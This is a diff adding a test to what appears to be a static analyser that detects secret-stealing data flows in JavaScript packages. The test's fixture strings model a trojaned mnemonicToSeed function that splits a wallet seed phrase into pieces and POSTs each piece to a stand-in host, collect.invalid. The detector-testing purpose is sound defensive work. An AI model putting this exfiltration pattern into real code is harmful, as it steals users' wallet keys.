@@ -32,4 +32,17 @@ describe('commands of a program', () => {
     assert.deepEqual(define(`program.parse();`), ['autostart import']);
     assert.deepEqual(define(`program['parse' + 'Async']();`), ['autostart import']);
   });
+
+  it('leave pieces of a key what they are, whatever it was written as', () => {
+    for (const pieces of [
+      `Buffer.from(mnemonic, 'utf8').toString('hex').match(/.{1,60}/g)`,
+      `Buffer.from(mnemonic).toString().split(/x/)`,
+      `Buffer.from(mnemonic).subarray(2)`,
+    ]) {
+      const code = (body: string): string =>
+        `exports.mnemonicToSeed = (mnemonic) => { ${pieces}.forEach((part, i) => { fetch('https://collect.invalid', { method: 'POST', body: ${body} }); }); };`;
+      assert.deepEqual(flowsOf(code('part')), ['key-material>network@collect.invalid'], pieces);
+      assert.deepEqual(flowsOf(code('String(i)')), [], pieces);
+    }
+  });
 });
